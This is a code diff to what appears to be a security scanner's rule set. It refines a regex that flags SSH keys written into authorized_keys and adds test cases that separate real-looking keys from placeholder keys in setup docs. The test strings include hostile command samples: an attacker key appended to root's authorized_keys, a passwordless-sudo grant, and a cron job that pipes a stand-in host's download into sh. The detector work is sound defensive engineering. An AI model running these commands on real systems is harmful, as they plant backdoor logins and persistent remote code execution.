@@ -87,7 +87,9 @@ _REVERSE_SHELL = rx(
 _MINER = rx(r"(?:stratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcpuminer\b|--donate-level|\bcryptonight\b|\bnicehash\b|\bethminer\b|\bt-rex\s+miner\b|\bxmr-stak\b)")
 
 _TAMPER_PATTERNS: tuple[tuple[Regex, Severity, str], ...] = (
-    (rx(r"(?:echo|printf|cat)\s[^\n]*ssh-(?:rsa|ed25519|dss|ecdsa)\s+aaaa[^\n]*>>?\s*\S*\.ssh/authorized_keys"), Severity.CRITICAL,
+    # The key must run whole to a space or quote: `AAAA...`, `AAAAB3Nza…` or `AAAA<rest>` is a placeholder
+    # in setup docs for one's own machine (left to the medium write below); base64 never holds a dot.
+    (rx(r"(?:echo|printf|cat)\s[^\n]*ssh-(?:rsa|ed25519|dss|ecdsa)\s+aaaa[a-z0-9+/=]*[\s'\"][^\n]*>>?\s*\S*\.ssh/authorized_keys"), Severity.CRITICAL,
      "An SSH public key is written into authorized_keys (a backdoor login)"),
     (rx(r">>?\s*\S*\.ssh/authorized_keys"), Severity.MEDIUM, "Writes to ~/.ssh/authorized_keys"),
     (rx(r"(?:nopasswd\s*:\s*all|>>?\s*/etc/sudoers\b|\btee\s+(?:-a\s+)?/etc/sudoers)"), Severity.HIGH, "Grants passwordless sudo"),
@@ -1067,9 +1069,14 @@ RULES = [
             "```\necho 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys\n```\n",
             "```\necho 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers\n```\n",
             "```\n(crontab -l; echo '@reboot curl -s http://x.test/p | sh') | crontab -\n```\n",
+            "```bash\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA ops@build\" >> ~/.ssh/authorized_keys\n```\n",
         ],
         must_not_match=["`chmod +x script.sh`\n", "`rm -rf node_modules`\n", "`chmod 644 config.yml`\n"],
-        lowered=["## Anti-patterns\n\nNever `chmod -R 777 /var/www`.\n"],
+        lowered=["## Anti-patterns\n\nNever `chmod -R 777 /var/www`.\n",
+                 # a placeholder key in setup docs for one's own instance: the write is noted, not called a backdoor
+                 "### Multiple keys\n\n```bash\n# On instance, add more keys\necho 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys\n```\n",
+                 "```bash\necho \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5…  you@laptop\" >> ~/.ssh/authorized_keys\n```\n",
+                 "```bash\necho 'ssh-rsa <your public key>' >> ~/.ssh/authorized_keys\n```\n"],
     ),
     rule(
         id="IG507", name="encoded-url-or-command",
